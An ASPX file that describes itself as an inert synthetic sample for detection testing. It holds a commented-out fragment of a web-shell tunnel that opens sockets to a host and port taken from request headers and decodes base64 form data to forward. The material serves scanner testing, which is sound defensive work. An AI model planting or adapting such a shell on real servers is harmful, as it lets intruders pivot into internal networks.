<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% string cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(Request.Headers.Get("X-TARGET"), int.Parse(Request.Headers.Get("X-PORT"))); } else if (cmd == "FORWARD") { byte[] b = Convert.FromBase64String(Request.Form["d"]); } %>
--%>
